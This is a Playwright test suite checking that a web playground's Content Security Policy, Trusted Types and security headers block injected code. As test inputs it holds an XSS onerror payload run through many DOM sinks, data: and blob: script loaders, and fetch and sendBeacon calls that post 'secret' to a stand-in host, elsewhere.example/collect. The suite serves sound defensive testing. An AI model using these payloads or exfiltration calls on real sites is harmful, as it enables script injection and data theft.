// What the page forbids itself, whoever asks: each test tries what a script that came in somehow would try.
import { expect, test } from "./fixtures.mjs";

test.beforeEach(async ({ playground, faults }) => {
  faults.expect(/Content.Security.Policy/i, /Trusted(HTML|Script|ScriptURL|Type)/, /elsewhere\.example/, /blob:/);
  await playground.page.addInitScript(() => {
    globalThis.blocked = [];
    addEventListener("securitypolicyviolation", (event) => globalThis.blocked.push(event.effectiveDirective));
  });
  await playground.open();
});

const blocked = (page) => page.evaluate(() => globalThis.blocked);

test("the policy stands in the page and names no other origin and nothing inline", async ({ playground }) => {
  const content = await playground.page.locator("meta[http-equiv='Content-Security-Policy']").getAttribute("content");
  const rules = Object.fromEntries(content.split(";").map((rule) => rule.trim().split(/\s+(.*)/)));
  expect(rules["default-src"]).toBe("'none'");
  expect(rules["script-src"]).toBe("'self' 'wasm-unsafe-eval'");
  expect(rules["connect-src"]).toBe("'self'");
  expect(rules["style-src"]).toBe("'self'");
  expect(rules["base-uri"]).toBe("'none'");
  expect(rules["form-action"]).toBe("'none'");
  expect(rules["require-trusted-types-for"]).toBe("'script'");
  expect(rules["trusted-types"]).toBe("netpol netpol-worker");
  expect(content).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
  // not those in the shadow root of the editor, whose styles are set by script, each property by itself
  const inline = () => document.querySelectorAll("script:not([src]):not([type='text/plain']), [onclick], [style]").length;
  expect(await playground.page.evaluate(inline)).toBe(0);
  await expect(playground.page.locator("meta[name=referrer]")).toHaveAttribute("content", "no-referrer");
});

test("no inline script or handler runs, and no script of another origin", { tag: "@core" }, async ({ playground }) => {
  const outcome = await playground.page.evaluate(async () => {
    // a script's text node is no sink that refuses text, so the script is stopped when it would run
    const script = document.createElement("script");
    script.append("document.title = 'hacked'");
    document.body.append(script);
    const failed = (address) =>
      import(address).then(
        () => "ran",
        (error) => error.name,
      );
    return [await failed("https://elsewhere.example/evil.js"), await failed("data:text/javascript,document.title='hacked'")];
  });
  expect(outcome).toEqual(["TypeError", "TypeError"]);
  expect((await blocked(playground.page)).filter((directive) => directive === "script-src-elem").length).toBeGreaterThanOrEqual(2);
  await expect(playground.page).toHaveTitle("NetworkPolicy Playground");
});

/** Ways from a text to markup, a script's address or code; each would run if the page took the text. */
const SINKS = {
  innerHTML: (text) => (document.body.innerHTML = text),
  outerHTML: (text) => (document.body.firstElementChild.outerHTML = text),
  insertAdjacentHTML: (text) => document.body.insertAdjacentHTML("beforeend", text),
  "document.write": (text) => document.write(text),
  "a shadow root": (text) => (document.createElement("div").attachShadow({ mode: "open" }).innerHTML = text),
  "a fragment": (text) => document.createRange().createContextualFragment(text),
  "a parser": (text) => new DOMParser().parseFromString(text, "text/html"),
  "a frame's document": (text) => (document.createElement("iframe").srcdoc = text),
  "a handler": (text) => document.createElement("b").setAttribute("onclick", text),
  "a script's text": (text) => (document.createElement("script").textContent = text),
  "a script's address": () => (document.createElement("script").src = "data:text/javascript,document.title='hacked'"),
  "the address of a file of the site": () => (document.createElement("script").src = "boot.js"),
  "a worker": () => new Worker("data:text/javascript,postMessage(1)"),
  "a worker from a blob": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))),
  "an object": () => (document.createElement("object").data = "https://elsewhere.example/evil.swf"),
  "an embedded thing": () => (document.createElement("embed").src = "https://elsewhere.example/evil.swf"),
  "a policy of one's own": (text) => (document.body.innerHTML = trustedTypes.createPolicy("mine", { createHTML: () => text }).createHTML("")),
  "a policy for everything": (text) => trustedTypes.createPolicy("default", { createHTML: () => text }),
};

test(`a text does not get into the page in any of ${Object.keys(SINKS).length} ways`, async ({ playground }) => {
  const { page } = playground;
  const before = await playground.rows();
  const text = JSON.stringify(`<img src=x onerror="document.title='hacked'">`);
  for (const [name, sink] of Object.entries(SINKS)) {
    const outcome = await page.evaluate(`(() => {
      try {
        (${sink})(${text});
        return "taken";
      } catch (error) {
        return error.name;
      }
    })()`);
    expect(outcome, name).toBe("TypeError");
  }
  expect(await playground.rows()).toEqual(before);
  await expect(page).toHaveTitle("NetworkPolicy Playground");
});

test("the policies there are make nothing but the addresses of the page's own workers", async ({ playground, baseURL }) => {
  const { page } = playground;
  await page.addInitScript(() => {
    const create = TrustedTypePolicyFactory.prototype.createPolicy;
    TrustedTypePolicyFactory.prototype.createPolicy = function (...given) {
      const policy = create.apply(this, given);
      globalThis.policies = { ...globalThis.policies, [given[0]]: policy };
      return policy;
    };
  });
  await page.reload();
  await page.waitForFunction(() => Object.keys(globalThis.policies ?? {}).length === 2);
  for (const [name, script] of [
    ["netpol", "sw.js"],
    ["netpol-worker", "worker.js"],
  ]) {
    const make = (name) => String(globalThis.policies[name].createScriptURL("data:text/javascript,1"));
    expect(await page.evaluate(make, name)).toBe(`${baseURL}${script}`);
    const other = (make) => page.evaluate(make, name).catch((error) => error.message);
    expect(await other((name) => globalThis.policies[name].createHTML("<b>"))).toMatch(/createHTML/);
    expect(await other((name) => String(trustedTypes.createPolicy(name, { createScriptURL: (text) => text })))).toMatch(/TypeError/);
  }
});

test("a host that reads _headers gives the worker a policy of its own", async ({ playground, baseURL }) => {
  const headers = (await playground.page.request.get(`${baseURL}worker.js`)).headers();
  expect(headers["content-security-policy"]).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'");
});

test("no text becomes code", { tag: "@core" }, async ({ playground }) => {
  // what a test evaluates may make code from text, what a timer calls later may not
  const outcome = await playground.page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(new Function("return 'ran'")());
          } catch (error) {
            resolve(error.name);
          }
        });
      }),
  );
  expect(outcome).toBe("EvalError");
  const rules = await blocked(playground.page);
  expect(rules.filter((rule) => ["script-src", "require-trusted-types-for"].includes(rule))).not.toEqual([]);
});

test("nothing talks to another origin", { tag: "@core" }, async ({ playground }) => {
  const outcome = await playground.page.evaluate(async () => {
    const image = new Image();
    image.src = "https://elsewhere.example/pixel.png";
    const style = document.createElement("link");
    style.rel = "stylesheet";
    style.href = "https://elsewhere.example/evil.css";
    document.head.append(style);
    const frame = document.createElement("iframe");
    frame.src = "https://elsewhere.example/";
    document.body.append(frame);
    return fetch("https://elsewhere.example/collect", { method: "POST", body: "secret" }).then(
      () => "sent",
      (error) => error.name,
    );
  });
  expect(outcome).toBe("TypeError");
  await expect.poll(() => blocked(playground.page)).toEqual(expect.arrayContaining(["img-src", "style-src-elem", "frame-src", "connect-src"]));
});

/** What a page could be led astray with, and the rule that is in the way. */
const WAYS = {
  "form-action": () => {
    const form = Object.assign(document.createElement("form"), { action: "https://elsewhere.example/", method: "post" });
    document.body.append(form);
    form.submit();
  },
  "base-uri": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://elsewhere.example/" })),
  "manifest-src": () => document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: "https://elsewhere.example/m.json" })),
  "media-src": () => (document.createElement("video").src = "https://elsewhere.example/film.mp4"),
  "font-src": () => void new FontFace("evil", "url(https://elsewhere.example/evil.woff2)").load().catch(() => {}),
  "connect-src": () => new WebSocket("wss://elsewhere.example/"),
  "frame-src": () =>
    document.body.append(Object.assign(document.createElement("iframe"), { src: URL.createObjectURL(new Blob(["<b>"], { type: "text/html" })) })),
  "style-src-attr": () => document.body.setAttribute("style", "background: url(https://elsewhere.example/pixel.png)"),
};

test("each way to be led astray has a rule in it", async ({ playground, baseURL }) => {
  const { page } = playground;
  // Chromium asks for a manifest only when it is to install the page, and for the first one named
  await page.evaluate(() => document.querySelector("link[rel=manifest]")?.remove());
  for (const way of Object.values(WAYS)) await page.evaluate(`void (${way})()`);
  await (await page.context().newCDPSession(page)).send("Page.getAppManifest").catch(() => {});
  await expect.poll(() => blocked(page)).toEqual(expect.arrayContaining(Object.keys(WAYS)));
  expect(await page.evaluate(() => document.baseURI)).toBe(baseURL);
});

test("a beacon does not leave either", async ({ playground }) => {
  await playground.page.evaluate(() => navigator.sendBeacon("https://elsewhere.example/collect", "secret"));
  await expect.poll(() => blocked(playground.page)).toContain("connect-src");
});

test("where the host sends the headers that come with the site, the page has no camera, place or microphone to give away", async ({ playground, faults }) => {
  faults.expect(/permissions policy/i);
  const { page } = playground;
  // given by the person, and still not to be had
  await page.context().grantPermissions(["camera", "geolocation", "microphone"]);
  const allowed = await page.evaluate(() =>
    ["camera", "geolocation", "microphone", "usb", "payment"].filter((feature) => document.featurePolicy.allowsFeature(feature)),
  );
  expect(allowed).toEqual([]);
  const place = page.evaluate(
    () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve("told"),
          ({ code }) => resolve(code),
        ),
      ),
  );
  expect(await place).toBe(1);
});

test("the headers that come with the site let articles embed it, and hold for every file", async ({ page, baseURL }) => {
  for (const file of ["", "codes.html", "boot.js", "sw.js"]) {
    const headers = (await page.request.get(baseURL + file)).headers();
    expect(headers["x-content-type-options"], file).toBe("nosniff");
    expect(headers["referrer-policy"], file).toBe("no-referrer");
    expect(headers["permissions-policy"], file).toContain("camera=()");
    expect(headers["access-control-allow-origin"], file).toBe("*");
    expect(headers["x-frame-options"], file).toBeUndefined();
    expect(headers["content-security-policy"] ?? "", file).not.toContain("frame-ancestors");
  }
});
